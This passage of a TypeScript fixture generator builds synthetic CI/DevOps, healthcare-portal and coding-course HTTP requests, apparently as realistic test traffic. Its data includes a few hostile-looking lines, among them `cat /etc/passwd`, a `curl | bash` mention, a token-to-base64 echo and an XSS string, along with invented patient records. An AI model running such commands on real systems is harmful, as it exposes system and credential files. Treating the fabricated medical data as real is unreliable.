  'Flaky again 😩 the integration test `test_order_update_concurrent` times out after 30s. Logs:\n```\nE   psycopg.errors.LockNotAvailable: canceling statement due to lock timeout\nE   CONTEXT: while updating tuple (0,12) in relation "orders"\nE   SQL: UPDATE orders SET status = \'paid\' WHERE id = 4412 AND version = 3\n```\nMaybe bump `lock_timeout` or add `SELECT ... FOR UPDATE SKIP LOCKED`?',
  'Deploy to staging failed at the migration step: `ALTER TABLE invoices DROP COLUMN legacy_ref;` — column is still used by the reporting view. Reverted in !2291.',
  'The `docker build` step OOMs on the shared runners (exit code 137). Can we get the `saas-linux-large` tag for this project? cc @platform-team',
  'Segfault in the arm64 job:\n```\n#0  0x0000ffff8c2a1e44 in __memcpy_generic () from /lib/aarch64-linux-gnu/libc.so.6\n#1  0x0000aaaab2f0c3d8 in png_read_row (png_ptr=0x0, row=0xffffe...) at pngread.c:443\n```\nOnly on `ubuntu-24.04-arm`. x86 is fine.',
  'Cache key should include the lockfile hash, otherwise we restore stale deps: `key: { files: [package-lock.json] }`.',
  'Can someone re-run pipeline 55120? It died with `ERROR: Job failed: failed to pull image "registry.internal:5000/ci/base:latest" ... dial tcp 10.0.4.17:5000: i/o timeout`.',
  'Heads up: `curl | bash` in the install step is blocked by the new egress policy. Use the pinned tarball + sha256sum check instead:\n```sh\ncurl -fsSLO https://example.com/tool-1.2.3.tar.gz\necho "9f86d08...  tool-1.2.3.tar.gz" | sha256sum -c -\n```',
  "Why does `${{ secrets.NPM_TOKEN }}` print as *** but `$NPM_TOKEN` prints in plain text when I `echo` it inside a subshell `$(echo $NPM_TOKEN | base64)`? That's a leak.",
  'Test coverage dropped from 84.2% to 79.9% (-4.3%) in this MR. Mostly src/billing/*.ts — please add tests before merging.',
];
const LOG_LINES = [
  '$ npm ci --prefer-offline',
  'added 1342 packages, and audited 1343 packages in 41s',
  '$ npm test -- --reporter=junit > junit.xml',
  '  ✓ creates an invoice (45 ms)',
  '  ✕ rejects duplicate SKU (12 ms)\n    Expected: 409\n    Received: 500',
  'Running with forgeline-runner 17.6.0 (c2a4e8f1)',
  'Using Docker executor with image node:22-bookworm ...',
  'Checking out 3f2a91c0 as detached HEAD (ref is refs/merge-requests/2291/head)...',
  'Removing node_modules/',
  '$ ./scripts/wait-for-it.sh db:5432 -t 60 -- echo "db up"',
  'ERROR: relation "users" does not exist at character 15',
  'STATEMENT:  SELECT id, email FROM users WHERE deleted_at IS NULL ORDER BY id LIMIT 100',
  'WARNING: Uploading artifacts as "junit" to coordinator... 201 Created',
  'Cleaning up project directory and file based variables',
  'ERROR: Job failed: exit code 1',
  '+ rm -rf /builds/acme/web/tmp/* && mkdir -p tmp/cache',
  '[2026-03-17T09:12:44.118Z] GET /health 200 3ms',
  "fatal: unable to access 'https://git.internal/acme/web.git/': Could not resolve host: git.internal",
];

function devops(): void {
  const api = '/api/v4';
  for (const [i, cfg] of PIPELINES.entries()) {
    addJson(
      'code',
      'POST',
      `${api}/projects/${int(100, 9999)}/ci/lint`,
      chance(0.5) ? browser(CI, '/acme/web/-/ci/editor') : sdk(),
      {
        pipeline: {
          config: cfg,
          ref: pick(['main', 'feature/arm64-runners', 'fix/npm-cache']),
          dry_run: true,
        },
        include_jobs: i % 2 === 0,
      },
    );
  }
  for (const c of BUILD_COMMENTS) {
    addJson(
      'code',
      'POST',
      `${api}/projects/${int(100, 9999)}/merge_requests/${int(1000, 2999)}/notes`,
      browser(CI, `/acme/web/-/merge_requests/${int(1000, 2999)}`),
      {
        body: c,
        internal: chance(0.2),
      },
    );
  }
  // environment variables listing / create
  const vars = [
    { key: 'DATABASE_URL', value: 'postgres://ci:ci@postgres:5432/app_test?sslmode=disable', masked: false },
    { key: 'NODE_OPTIONS', value: '--max-old-space-size=4096 --enable-source-maps', masked: false },
    {
      key: 'SENTRY_DSN',
      value: `https://${hex(32)}@o${int(100000, 999999)}.ingest.sentry.io/${int(1000000, 9999999)}`,
      masked: true,
    },
    {
      key: 'JAVA_TOOL_OPTIONS',
      value: '-XX:+UseContainerSupport -XX:MaxRAMPercentage=75.0 -Dfile.encoding=UTF-8',
      masked: false,
    },
    { key: 'PIP_EXTRA_INDEX_URL', value: 'https://pypi.internal.acme.io/simple/', masked: false },
    {
      key: 'DEPLOY_CMD',
      value: './deploy.sh --env=$CI_ENVIRONMENT_NAME --tag=${CI_COMMIT_TAG:-latest} && ./smoke.sh',
      masked: false,
    },
    { key: 'GREP_PATTERN', value: "'(ERROR|FATAL)' | grep -v 'expected'", masked: false },
  ];
  for (const v of vars) {
    addJson(
      'rest-write',
      'POST',
      `${api}/projects/${int(100, 9999)}/variables`,
      sdk({
        'user-agent': pick(['terraform-provider-forgeline/0.18.2', 'python-forgeline/4.13.0', 'curl/8.11.1']),
      }),
      {
        ...v,
        protected: chance(0.5),
        environment_scope: pick(['*', 'production', 'staging/*', 'review/*']),
        variable_type: 'env_var',
        raw: chance(0.3),
      },
    );
  }
  add(
    'rest-write',
    'PUT',
    `${api}/projects/${int(100, 9999)}/variables/KUBECONFIG`,
    sdk(),
    form([
      [
        'value',
        'apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://10.20.0.1:6443\n  name: prod\ncurrent-context: prod\n',
      ],
      ['variable_type', 'file'],
      ['protected', 'true'],
    ]),
    'application/x-www-form-urlencoded',
  );
  // job log chunks from runner (ndjson trace)
  for (let n = 0; n < 4; n++) {
    const lines: string[] = [];
    let offset = int(0, 5000);
    for (let k = 0; k < int(4, 8); k++) {
      const content = pick(LOG_LINES);
      lines.push(
        JSON.stringify({ ts: isoDate(), offset, stream: pick(['stdout', 'stdout', 'stderr']), content }),
      );
      offset += content.length + 1;
    }
    add(
      'ndjson',
      'PATCH',
      `${api}/jobs/${int(100000, 999999)}/trace`,
      {
        'user-agent': 'forgeline-runner 17.6.0 (17-6-stable; go1.23.2; linux/amd64)',
        accept: 'application/json',
        'job-token': `${b62(20)}`,
        'x-request-id': uuid(),
      },
      lines.join('\n') + '\n',
      'application/x-ndjson',
    );
  }
  // job status updates from runner
  for (let n = 0; n < 3; n++) {
    addJson(
      'rest-write',
      'PUT',
      `${api}/jobs/${int(100000, 999999)}`,
      {
        'user-agent': 'forgeline-runner 17.6.0 (17-6-stable; go1.23.2; linux/amd64)',
        accept: 'application/json',
        'x-request-id': uuid(),
      },
      {
        token: `glcbt-${b62(20)}`,
        state: pick(['running', 'failed', 'success']),
        failure_reason: pick(['script_failure', 'runner_system_failure', null]),
        exit_code: pick([0, 1, 137, 2]),
        checksum: `crc32:${hex(8)}`,
        output: { checksum: `crc32:${hex(8)}`, bytesize: int(1000, 99999) },
      },
    );
  }
  // GitHub webhook
  addJson(
    'webhook',
    'POST',
    '/webhooks/github',
    {
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      accept: '*/*',
      'x-github-event': 'push',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
      'x-github-hook-id': String(int(1e8, 9e8)),
    },
    {
      ref: 'refs/heads/main',
      before: hex(40),
      after: hex(40),
      repository: { id: int(1e8, 9e8), full_name: 'acme/web', private: true, default_branch: 'main' },
      pusher: { name: 'octocat', email: 'octocat@users.noreply.github.com' },
      head_commit: {
        id: hex(40),
        message:
          "fix(ci): don't run `npm ci` as root; use $HOME/.npm cache\n\nCloses #412. Also drops the legacy `rm -rf node_modules && npm i` step.",
        timestamp: isoDate(),
        added: [],
        removed: ['scripts/legacy-install.sh'],
        modified: ['.forgeline-ci.yml', 'Dockerfile'],
      },
    },
  );
  addJson(
    'webhook',
    'POST',
    '/webhooks/github',
    {
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      accept: '*/*',
      'x-github-event': 'workflow_run',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
    },
    {
      action: 'completed',
      workflow_run: {
        id: int(1e9, 9e9),
        name: 'CI',
        head_branch: 'feature/arm64-runners',
        conclusion: 'failure',
        run_attempt: 2,
        display_title: 'Add arm64 matrix (#2291)',
        html_url: 'https://github.com/acme/web/actions/runs/1234567890',
      },
      repository: { full_name: 'acme/web' },
    },
  );
  addJson(
    'webhook',
    'POST',
    '/webhooks/github',
    {
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      accept: '*/*',
      'x-github-event': 'issue_comment',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
    },
    {
      action: 'created',
      issue: {
        number: 2291,
        title: 'Add arm64 matrix',
        pull_request: { url: 'https://api.github.com/repos/acme/web/pulls/2291' },
      },
      comment: {
        body: '/retest arm64\n\n> Segfault in png_read_row\n\nprobably libpng 1.6.43 vs 1.6.44, see `ldd $(which convert) | grep png`',
        user: { login: 'jdoe' },
      },
    },
  );
  // artifacts upload
  {
    const mp = multipart([
      { name: 'artifact_format', content: 'junit' },
      { name: 'artifact_type', content: 'junit' },
      {
        name: 'file',
        filename: 'junit.xml',
        type: 'application/xml',
        content:
          '<?xml version="1.0" encoding="UTF-8"?>\n<testsuites tests="212" failures="1" time="41.2">\n  <testsuite name="orders" tests="14" failures="1">\n    <testcase classname="orders.update" name="rejects duplicate SKU" time="0.012">\n      <failure message="Expected: 409 Received: 500">AssertionError: expected 500 to equal 409\n    at Context.&lt;anonymous&gt; (test/orders.test.js:88:27)</failure>\n    </testcase>\n  </testsuite>\n</testsuites>\n',
      },
    ]);
    add(
      'multipart',
      'POST',
      `${api}/jobs/${int(100000, 999999)}/artifacts?expire_in=30+days`,
      {
        'user-agent': 'forgeline-runner 17.6.0 (17-6-stable; go1.23.2; linux/amd64)',
        'job-token': b62(20),
        accept: 'application/json',
      },
      mp.body,
      mp.ct,
    );
    const mp2 = multipart([
      {
        name: 'file',
        filename: 'coverage-summary.json',
        type: 'application/json',
        content: JSON.stringify({
          total: {
            lines: { total: 5120, covered: 4090, pct: 79.88 },
            branches: { total: 1804, covered: 1301, pct: 72.12 },
          },
        }),
      },
      { name: 'file', filename: 'build.log', type: 'text/plain', content: LOG_LINES.slice(0, 9).join('\n') },
    ]);
    add(
      'multipart',
      'POST',
      `${api}/projects/${int(100, 9999)}/uploads`,
      browser(CI, '/acme/web/-/issues/412'),
      mp2.body,
      mp2.ct,
    );
  }
  // merge-patch / json-patch
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/projects/${int(100, 9999)}/environments/${int(10, 99)}`,
    browser(CI, '/acme/web/-/environments'),
    { external_url: 'https://staging.acme.io', tier: 'staging', auto_stop_in: '1 week' },
    'application/merge-patch+json',
  );
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/runners/${int(1000, 9999)}`,
    sdk(),
    {
      description: 'arm64 runner #3 (c7g.2xlarge)',
      tag_list: ['arm64', 'docker', 'large'],
      paused: false,
      maximum_timeout: 3600,
      run_untagged: null,
    },
    'application/merge-patch+json',
  );
  addJson(
    'json-patch',
    'PATCH',
    `${api}/projects/${int(100, 9999)}/pipeline_schedules/${int(10, 99)}`,
    sdk(),
    [
      { op: 'replace', path: '/cron', value: '0 3 * * 1-5' },
      { op: 'replace', path: '/cron_timezone', value: 'Europe/Berlin' },
      { op: 'add', path: '/variables/-', value: { key: 'NIGHTLY', value: 'true' } },
    ],
    'application/json-patch+json',
  );
  // search
  const searches: Record<string, string | number>[] = [
    { scope: 'jobs', status: 'failed', ref: 'main', search: '"segmentation fault"' },
    { search: 'npm ERR! code EACCES', scope: 'job_logs' },
    { search: 'exit code 137 OR OOMKilled', created_after: '2026-03-01T00:00:00Z' },
    { scope: 'blobs', search: 'DROP COLUMN legacy_ref', ref: 'main' },
    { search: 'path:*.yml "docker:27-dind"' },
    { username: 'jdoe', order_by: 'updated_at', sort: 'desc', per_page: 100 },
    { search: "can't resolve host git.internal", scope: 'issues', state: 'opened' },
  ];
  for (const s of searches)
    add('search', 'GET', `${api}/search?${qs(s)}`, chance(0.5) ? browser(CI, '/search') : sdk());
  add(
    'search',
    'GET',
    `${api}/projects/${int(100, 9999)}/pipelines?${qs({ status: 'failed', source: 'merge_request_event', updated_after: '2026-03-10', per_page: 50 })}`,
    mobile('ci'),
  );
  add('delete', 'DELETE', `${api}/projects/${int(100, 9999)}/pipelines/${int(10000, 99999)}`, sdk());
  add(
    'delete',
    'DELETE',
    `${api}/projects/${int(100, 9999)}/variables/LEGACY_TOKEN?filter%5Benvironment_scope%5D=production`,
    sdk(),
  );
  add('delete', 'DELETE', `${api}/runners/${int(1000, 9999)}`, browser(CI, '/admin/runners'));
  addGql(
    'graphql',
    '/api/graphql',
    browser(CI, '/acme/web/-/pipelines'),
    'getPipelineJobs',
    'query getPipelineJobs($fullPath: ID!, $iid: ID!) {\n  project(fullPath: $fullPath) {\n    pipeline(iid: $iid) {\n      id status duration\n      stages { nodes { name groups { nodes { name jobs { nodes { id name status retryable } } } } } }\n    }\n  }\n}',
    { fullPath: 'acme/web', iid: String(int(1000, 9999)) },
  );
  addGql(
    'graphql',
    '/api/graphql',
    sdk(),
    'retryJob',
    'mutation retryJob($id: CiBuildID!) { jobRetry(input: { id: $id }) { job { id status webPath } errors } }',
    { id: `gid://forgeline/Ci::Build/${int(1e6, 9e6)}` },
  );
  addGqlGet(
    '/api/graphql',
    browser(CI, '/dashboard'),
    'query { currentUser { username namespace { fullPath } } }',
  );
}

// --- 3. Healthcare portal --------------------------------------------------------------------------------

const HEALTH = 'portal.mercyvale-health.org';
const PATIENT_MSGS = [
  "Hi Dr. Patel, since starting lisinopril 10mg I've had a dry cough, mostly at night. Is it OK to stop it or should I wait until my appointment on the 24th?",
  'My blood sugar readings this week: 142, 156, 131 (fasting) and 210 after dinner on Sat. Should I update my insulin dose?',
  "Can you send the prescription to the Walgreens on 5th & Pine instead of CVS? CVS says it's out of stock.",
  'I need a note for work saying I was seen on 3/12 and can return on 3/16 — my employer needs it by Friday.',
  'Pain is about 6/10 now (was 8/10). Taking ibuprofen 400 mg every 6-8 hrs; is that too much with my kidney issue?',
  'My son (DOB 04/02/2019) has had a fever > 101°F for 3 days. Do we need to come in or go to urgent care?',
  'Question about my lab results: what does "eGFR < 60" mean? The portal says "abnormal" in red and I\'m worried.',
  "I'd like to drop the 2pm appointment and take the earliest one next week, any provider is fine.",
  "Refill request: metformin 500mg ER, 2 tabs q AM. I'm down to my last 5 days.",
  'Please update my insurance: new plan is Aetna PPO, member ID W123456789, group 00-1234. Card photo attached.',
  'Is the flu shot + COVID booster at the same visit ok? I had a reaction (sore arm, 100.4 fever) last year.',
  'I was charged a $35 copay for a telehealth visit that got cancelled on your side (the link never worked).',
];
const CLINICAL_NOTES = [
  'S: 54 y/o F c/o intermittent chest tightness x 2 wks, worse w/ exertion, relieved by rest. Denies SOB, N/V.\nO: BP 142/91, HR 78, SpO2 98% RA. Lungs CTAB. RRR, no m/r/g.\nA: Stable angina vs. GERD. HTN, not at goal.\nP: ECG today; stress test; increase lisinopril 10 -> 20 mg daily; f/u 2 wks. Return precautions reviewed (call 911 if pain > 15 min).',
  'Pt presents for DM2 f/u. A1c 8.1% (prev 7.4%). Reports missing doses "when busy". Plan: start empagliflozin 10 mg; diabetes education referral; recheck A1c in 3 mo. Foot exam: monofilament intact bilat.',
  'Telehealth visit. Pt reports rash on L forearm after starting amoxicillin 500 mg TID (day 4). No angioedema, no wheezing. D/c amoxicillin; switch to azithromycin Z-pak. Added PCN allergy (rash) to chart.',
  'Well-child 4 y/o. Growth: 50th %ile ht, 60th %ile wt. Vaccines: DTaP #5, IPV #4, MMR #2, Varicella #2 given; VIS provided. Parent questions re: screen time (< 1 hr/day advised).',
];

function healthcare(): void {
  const api = '/api/v1';
  for (const m of PATIENT_MSGS) {
    addJson(
      'prose',
      'POST',
      `${api}/messages/threads`,
      chance(0.6) ? mobile('health') : browser(HEALTH, '/messages/new'),
      {
        recipientPoolId: `pool_${pick(['primary-care', 'cardiology', 'pediatrics', 'billing', 'rx-refill'])}`,
        subject: pick([
          'Medication question',
          'Refill',
          'Lab results',
          'Appointment',
          'Insurance',
          'Billing question',
          'Sick child',
        ]),
        body: m,
        attachments: [],
        patientId: `Patient/${int(100000, 999999)}`,
      },
    );
  }
  for (const n of CLINICAL_NOTES) {
    addJson(
      'rest-write',
      'POST',
      '/fhir/r4/DocumentReference',
      sdk({ 'user-agent': 'Epic-Interconnect/10.3 (FHIR R4)', accept: 'application/fhir+json' }),
      {
        resourceType: 'DocumentReference',
        status: 'current',
        type: { coding: [{ system: 'http://loinc.org', code: '11506-3', display: 'Progress note' }] },
        subject: { reference: `Patient/${int(100000, 999999)}` },
        date: isoDate(),
        author: [{ reference: `Practitioner/${int(1000, 9999)}`, display: 'Anita Patel, MD' }],
        content: [
          { attachment: { contentType: 'text/plain; charset=utf-8', data: b64(n), title: 'SOAP note' } },
        ],
        description: n.slice(0, 80),
      },
      'application/fhir+json',
    );
  }
  // appointments
  const reasons = [
    'Annual physical',
    'Follow-up: BP meds',
    "Knee pain (L) after fall — can't bend it fully",
    'Rash & itching',
    'Sports physical for school (needs form signed)',
    'Anxiety / sleep issues',
    'Prenatal visit (week 20 ultrasound)',
    'COVID test + "sore throat"',
  ];
  for (const r of reasons) {
    addJson(
      'rest-write',
      'POST',
      `${api}/appointments`,
      chance(0.5) ? mobile('health') : browser(HEALTH, '/scheduling'),
      {
        slotId: `slot_${b62(12)}`,
        practitionerId: `Practitioner/${int(1000, 9999)}`,
        locationId: pick(['loc_downtown', 'loc_northside', 'telehealth']),
        visitType: pick(['OFFICE', 'VIDEO', 'PHONE']),
        reasonForVisit: r,
        patientInstructionsAck: true,
        questionnaire: {
          q1_fever: chance(0.3),
          q2_travel: false,
          q3_notes: chance(0.5) ? "I'll bring my meds list." : '',
        },
      },
    );
  }
  // FHIR resources
  addJson(
    'rest-write',
    'POST',
    '/fhir/r4/MedicationRequest',
    sdk({ accept: 'application/fhir+json' }),
    {
      resourceType: 'MedicationRequest',
      status: 'active',
      intent: 'order',
      medicationCodeableConcept: {
        coding: [
          {
            system: 'http://www.nlm.nih.gov/research/umls/rxnorm',
            code: '314076',
            display: 'lisinopril 10 MG Oral Tablet',
          },
        ],
      },
      subject: { reference: `Patient/${int(100000, 999999)}` },
      dosageInstruction: [
        {
          text: 'Take 1 tablet by mouth once daily. Hold if SBP < 100.',
          timing: { repeat: { frequency: 1, period: 1, periodUnit: 'd' } },
          doseAndRate: [
            { doseQuantity: { value: 10, unit: 'mg', system: 'http://unitsofmeasure.org', code: 'mg' } },
          ],
        },
      ],
      dispenseRequest: {
        numberOfRepeatsAllowed: 3,
        quantity: { value: 90, unit: 'tablet' },
        expectedSupplyDuration: { value: 90, unit: 'days' },
      },
      note: [
        { text: 'Pt reports dry cough on ACE-i; consider switch to ARB (losartan) if persists > 2 wks.' },
      ],
    },
    'application/fhir+json',
  );
  addJson(
    'rest-write',
    'POST',
    '/fhir/r4/Observation',
    sdk({ accept: 'application/fhir+json', 'user-agent': 'Withings-HealthMate-Sync/3.2' }),
    {
      resourceType: 'Observation',
      status: 'final',
      category: [
        {
          coding: [
            { system: 'http://terminology.hl7.org/CodeSystem/observation-category', code: 'vital-signs' },
          ],
        },
      ],
      code: { coding: [{ system: 'http://loinc.org', code: '85354-9', display: 'Blood pressure panel' }] },
      subject: { reference: `Patient/${int(100000, 999999)}` },
      effectiveDateTime: isoDate(),
      component: [
        {
          code: { coding: [{ system: 'http://loinc.org', code: '8480-6' }] },
          valueQuantity: { value: int(110, 160), unit: 'mmHg' },
        },
        {
          code: { coding: [{ system: 'http://loinc.org', code: '8462-4' }] },
          valueQuantity: { value: int(65, 100), unit: 'mmHg' },
        },
      ],
    },
    'application/fhir+json',
  );
  addJson(
    'rest-write',
    'PUT',
    `/fhir/r4/Patient/${int(100000, 999999)}`,
    sdk({ accept: 'application/fhir+json' }),
    {
      resourceType: 'Patient',
      name: [{ use: 'official', family: "O'Connor-Nakamura", given: ['Siobhán', 'Aiko'] }],
      telecom: [
        { system: 'phone', value: '+1 (415) 555-0137', use: 'mobile' },
        { system: 'email', value: 'siobhan.oc@proton.me' },
      ],
      gender: 'female',
      birthDate: '1988-07-14',
      address: [{ line: ['1200 Pine St. Apt #4B'], city: 'Seattle', state: 'WA', postalCode: '98101' }],
      communication: [{ language: { coding: [{ system: 'urn:ietf:bcp:47', code: 'ja' }] }, preferred: true }],
    },
    'application/fhir+json',
  );
  // merge-patch & json-patch
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/me/contact`,
    browser(HEALTH, '/account/contact'),
    {
      phone: '+44 20 7946 0958',
      preferredContact: 'sms',
      emergencyContact: { name: 'Lukas Müller', relation: 'spouse', phone: '+49 30 901820' },
      pharmacy: null,
    },
    'application/merge-patch+json',
  );
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/appointments/${b62(10)}`,
    mobile('health'),
    { status: 'cancelled', cancelReason: 'Feeling better, no longer need the visit :)' },
    'application/merge-patch+json',
  );
  addJson(
    'json-patch',
    'PATCH',
    `/fhir/r4/AllergyIntolerance/${int(1000, 9999)}`,
    sdk({ accept: 'application/fhir+json' }),
    [
      { op: 'replace', path: '/clinicalStatus/coding/0/code', value: 'resolved' },
      { op: 'add', path: '/note/-', value: { text: 'Tolerated cephalexin 3/2026 without reaction.' } },
    ],
    'application/json-patch+json',
  );
  // searches (FHIR search syntax)
  const fhirSearches = [
    `/fhir/r4/Patient?${qs({ family: "O'Brien", birthdate: 'ge1980-01-01', _count: 20 })}`,
    `/fhir/r4/Observation?${qs({ patient: `Patient/${int(100000, 999999)}`, code: 'http://loinc.org|8480-6,http://loinc.org|8462-4', date: 'ge2026-01-01', _sort: '-date' })}`,
    `/fhir/r4/MedicationRequest?${qs({ status: 'active', _include: 'MedicationRequest:medication', 'subject:Patient.name': 'garcía' })}`,
    `/fhir/r4/Appointment?${qs({ date: 'ge2026-03-01T00:00:00Z', 'actor:Practitioner.name:contains': 'patel', _elements: 'id,start,status' })}`,
    `/fhir/r4/Condition?${qs({ 'code:text': 'diabetes type 2', _has: 'Observation:patient:code=4548-4' })}`,
  ];
  for (const s of fhirSearches) add('search', 'GET', s, sdk({ accept: 'application/fhir+json' }));
  for (const q of [
    'dermatologist spanish speaking',
    'Dr. "Patel"',
    'ob/gyn near 98101',
    'pediatrics - saturday hours',
    'physical therapy (knee)',
  ]) {
    add(
      'search',
      'GET',
      `${api}/providers/search?${qs({ q, acceptingNewPatients: 'true', radius: '10mi' })}`,
      browser(HEALTH, '/find-care'),
    );
  }
  add(
    'delete',
    'DELETE',
    `${api}/appointments/${b62(10)}?reason=${encodeURIComponent('schedule conflict')}`,
    mobile('health'),
  );
  add('delete', 'DELETE', `${api}/me/devices/${uuid()}`, browser(HEALTH, '/account/devices'));
  // intake form
  add(
    'form',
    'POST',
    '/intake/submit',
    browser(HEALTH, '/intake', { accept: 'text/html,application/xhtml+xml,*/*;q=0.8' }),
    form([
      ['csrf', b64url(43)],
      ['meds', 'Lisinopril 10 mg daily; Metformin 500 mg BID; Vitamin D 2000 IU'],
      ['allergies', 'Penicillin (rash), shellfish -> hives'],
      ['surgeries', 'Appendectomy 2009; C-section 2019'],
      ['family_history', 'Father: MI at 58; Mother: DM2, HTN'],
      ['smoking', 'former'],
      ['alcohol', '1-2 drinks/week'],
      ['consent', 'on'],
    ]),
    'application/x-www-form-urlencoded',
  );
  add(
    'form',
    'POST',
    '/oauth2/token',
    sdk({ 'user-agent': 'Apache-HttpClient/5.3.1 (Java/21.0.4)' }),
    form([
      ['grant_type', 'client_credentials'],
      ['scope', 'system/Patient.read system/Observation.read system/*.rs'],
      ['client_assertion_type', 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer'],
      ['client_assertion', jwt('mercyvale-bulk', 'mercyvale-bulk')],
    ]),
    'application/x-www-form-urlencoded',
  );
  // uploads
  {
    const mp = multipart([
      { name: 'category', content: 'insurance-card' },
      { name: 'side', content: 'front' },
      { name: 'file', filename: 'IMG_4471.PNG', type: 'image/png', content: pngish() },
    ]);
    add('multipart', 'POST', `${api}/documents`, mobile('health'), mp.body, mp.ct);
    const mp2 = multipart([
      { name: 'category', content: 'outside-records' },
      {
        name: 'file',
        filename: 'glucose_log_march.csv',
        type: 'text/csv',
        content:
          'date,time,reading_mg_dl,context,notes\n2026-03-01,07:10,142,fasting,\n2026-03-01,19:45,210,after dinner,"pasta, bread; forgot walk"\n2026-03-02,07:05,131,fasting,\n2026-03-02,12:30,118,before lunch,"felt shaky <70 earlier?"\n',
      },
    ]);
    add('multipart', 'POST', `${api}/documents`, browser(HEALTH, '/documents/upload'), mp2.body, mp2.ct);
  }
  // bulk data ndjson import
  {
    const lines: string[] = [];
    for (let k = 0; k < 5; k++) {
      lines.push(
        JSON.stringify({
          resourceType: 'Observation',
          id: uuid(),
          status: 'final',
          code: {
            coding: [
              { system: 'http://loinc.org', code: '2339-0', display: 'Glucose [Mass/volume] in Blood' },
            ],
          },
          subject: { reference: `Patient/${int(100000, 999999)}` },
          valueQuantity: { value: int(70, 240), unit: 'mg/dL' },
          effectiveDateTime: isoDate(),
        }),
      );
    }
    add(
      'ndjson',
      'POST',
      '/fhir/r4/$import-chunk',
      sdk({ accept: 'application/fhir+json' }),
      lines.join('\n') + '\n',
      'application/x-ndjson',
    );
  }
  // i18n
  const intl = [
    'Hola, necesito una cita con el pediatra para mi hija. Tiene tos y fiebre de 38,5 °C desde ayer.',
    '您好，我想预约下周的体检。我对青霉素过敏。',
    'Xin chào bác sĩ, tôi bị đau đầu và chóng mặt khi đứng dậy. Tôi có nên giảm liều thuốc huyết áp không?',
    'Здравствуйте! Можно ли перенести приём на четверг после 17:00?',
    'مرحبا دكتور، هل يمكنني تناول الإيبوبروفين مع دواء الضغط؟',
  ];
  for (const t of intl) {
    addJson(
      'i18n',
      'POST',
      `${api}/messages/threads`,
      mobile('health', { 'accept-language': pick(['es-US', 'zh-CN', 'vi-VN', 'ru-RU', 'ar-SA']) }),
      {
        recipientPoolId: 'pool_primary-care',
        subject: t.slice(0, 20),
        body: t,
        patientId: `Patient/${int(100000, 999999)}`,
      },
    );
  }
  addGql(
    'graphql',
    '/graphql',
    mobile('health'),
    'UpcomingVisits',
    'query UpcomingVisits($after: DateTime!) {\n  me { upcomingAppointments(after: $after) { id start visitType practitioner { displayName photoUrl } location { name address } eCheckIn { status } } }\n}',
    { after: isoDate() },
  );
  addGql(
    'graphql',
    '/graphql',
    browser(HEALTH, '/medications'),
    'RequestRefill',
    'mutation RequestRefill($input: RefillInput!) { requestRefill(input: $input) { id status pharmacy { name } } }',
    {
      input: {
        medicationRequestId: `MedicationRequest/${int(1000, 9999)}`,
        pharmacyId: 'ncpdp:4455667',
        comment: 'Last 5 pills left — 90-day supply if possible',
      },
    },
  );
  // webhook from a telehealth vendor
  addJson(
    'webhook',
    'POST',
    '/webhooks/telehealth',
    {
      'user-agent': 'Zoom Marketplace/1.0a',
      accept: '*/*',
      'x-zm-signature': `v0=${hex(64)}`,
      'x-zm-request-timestamp': String(int(1790000000, 1799999999)),
    },
    {
      event: 'meeting.ended',
      event_ts: int(1790000000000, 1799999999999),
      payload: {
        account_id: b62(22),
        object: {
          id: String(int(1e10, 9e10)),
          uuid: `${b62(22)}==`,
          topic: 'Video visit – Dr. Patel',
          duration: 20,
          end_time: isoDate(),
        },
      },
    },
  );
}

// --- 4. E-learning for programmers -----------------------------------------------------------------------

const LEARN = 'learn.codepath.academy';
const SUBMISSIONS: [string, string][] = [
  [
    'sql',
    "SELECT c.name, COUNT(o.id) AS orders\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id AND o.status <> 'cancelled'\nGROUP BY c.name\nHAVING COUNT(o.id) > 2\nORDER BY orders DESC, c.name;",
  ],
  [
    'sql',
    '-- exercise 7: delete duplicates\nDELETE FROM emails\nWHERE id NOT IN (SELECT MIN(id) FROM emails GROUP BY lower(address));',
  ],
  [
    'sql',
    "UPDATE products SET price = price * 1.1 WHERE category = 'books';\nSELECT * FROM products WHERE category = 'books' UNION ALL SELECT * FROM archived_products WHERE category = 'books';",
  ],
  [
    'python',
    "import sys\n\ndef main():\n    n = int(sys.stdin.readline())\n    nums = list(map(int, sys.stdin.readline().split()))\n    print(sum(x for x in nums if x % 2 == 0))\n\nif __name__ == '__main__':\n    main()\n",
  ],
  [
    'python',
    "import os, subprocess\n# exercise: list files safely\nfor name in sorted(os.listdir('.')):\n    if name.endswith('.txt'):\n        print(subprocess.run(['wc', '-l', name], capture_output=True, text=True).stdout.strip())\n",
  ],
  [
    'javascript',
    "function escapeHtml(s) {\n  return s.replace(/[&<>\"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '\"': '&quot;', \"'\": '&#39;' })[c]);\n}\nconsole.log(escapeHtml('<script>alert(1)</script>'));\n",
  ],
  [
    'javascript',
    'const memo = new Map();\nexport function fib(n) {\n  if (n < 2) return n;\n  if (memo.has(n)) return memo.get(n);\n  const v = fib(n - 1) + fib(n - 2);\n  memo.set(n, v);\n  return v;\n}\n',
  ],
  [
    'bash',
    "#!/usr/bin/env bash\nset -euo pipefail\n# count unique IPs in access.log\ncut -d' ' -f1 access.log | sort | uniq -c | sort -rn | head -n 10\n",
  ],
  [
    'bash',
    'for f in $(find . -name \'*.log\' -mtime +7); do\n  gzip "$f" && echo "compressed $f"\ndone\ncat /etc/passwd | awk -F: \'$3 >= 1000 {print $1}\'\n',
  ],
  [
    'c',
    '#include <stdio.h>\n#include <string.h>\n\nint main(void) {\n    char buf[64];\n    if (fgets(buf, sizeof buf, stdin) == NULL) return 1;\n    buf[strcspn(buf, "\\n")] = \'\\0\';\n    printf("Hello, %s!\\n", buf);\n    return 0;\n}\n',
  ],
  [
    'java',
